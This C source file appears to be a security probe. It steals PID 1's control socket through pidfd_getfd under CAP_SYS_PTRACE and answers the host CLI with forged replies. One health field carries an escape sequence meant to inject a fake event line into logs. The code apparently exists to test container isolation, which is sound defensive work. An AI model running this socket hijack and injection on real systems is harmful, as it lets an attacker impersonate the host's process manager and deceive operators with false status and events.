/* Probe: take PID 1's control socket (the listening AF_UNIX socket the host
 * CLI connects to) with pidfd_getfd, which CAP_SYS_PTRACE allows, and answer
 * the host's requests in PID 1's place with forged replies.
 *
 *   ctlsteal SECONDS    prints "stole fd N" (or "no socket: ...") and
 *                       "answered K" at the end.  Every reply holds FORGED. */
#define _GNU_SOURCE
#include <errno.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static const char forged[] =
    "{\"ok\":true,\"forged\":\"FORGED\",\"workers\":[{\"worker\":4242,\"pid\":4242,\"state\":\"FORGED\","
    "\"uptime_ms\":1,\"restarts\":4242,\"cpu\":0,\"rss\":1,\"connections\":0,\"lag_ms\":0}],"
    /* a health status that, copied into an event line unescaped, would forge one */
    "\"health\":{\"Status\":\"healthy\\\"}\\n{\\\"Action\\\":\\\"FORGED\",\"FailingStreak\":0,\"Log\":[]}}\n";

int main(int argc, char **argv)
{
    int secs = argc > 1 ? atoi(argv[1]) : 10;
    int pidfd = (int)syscall(SYS_pidfd_open, 1, 0);
    if (pidfd < 0) {
        printf("no socket: pidfd_open: %s\n", strerror(errno));
        return 1;
    }
    int lfd = -1;
    for (int n = 0; n < 256 && lfd < 0; n++) {
        int fd = (int)syscall(SYS_pidfd_getfd, pidfd, n, 0);
        if (fd < 0)
            continue;
        int acc = 0;
        socklen_t l = sizeof acc;
        struct sockaddr_un a = {0};
        socklen_t al = sizeof a;
        if (getsockopt(fd, SOL_SOCKET, SO_ACCEPTCONN, &acc, &l) == 0 && acc &&
            getsockname(fd, (struct sockaddr *)&a, &al) == 0 && a.sun_family == AF_UNIX &&
            strstr(a.sun_path, "control.sock")) {
            lfd = fd;
            printf("stole fd %d\n", n);
        } else {
            close(fd);
        }
    }
    if (lfd < 0) {
        printf("no socket: %s\n", strerror(errno));
        return 1;
    }
    printf("ready\n");
    fflush(stdout);
    int answered = 0;
    time_t end = time(NULL) + secs;
    while (time(NULL) < end) {
        struct pollfd p = {.fd = lfd, .events = POLLIN};
        if (poll(&p, 1, 200) <= 0)
            continue;
        int c = accept4(lfd, NULL, NULL, SOCK_CLOEXEC | SOCK_NONBLOCK);
        if (c < 0)
            continue;
        char buf[4096];
        struct pollfd q = {.fd = c, .events = POLLIN};
        if (poll(&q, 1, 500) > 0)
            (void)!read(c, buf, sizeof buf);
        if (write(c, forged, sizeof forged - 1) > 0)
            answered++;
        close(c);
    }
    printf("answered %d\n", answered);
    return 0;
}
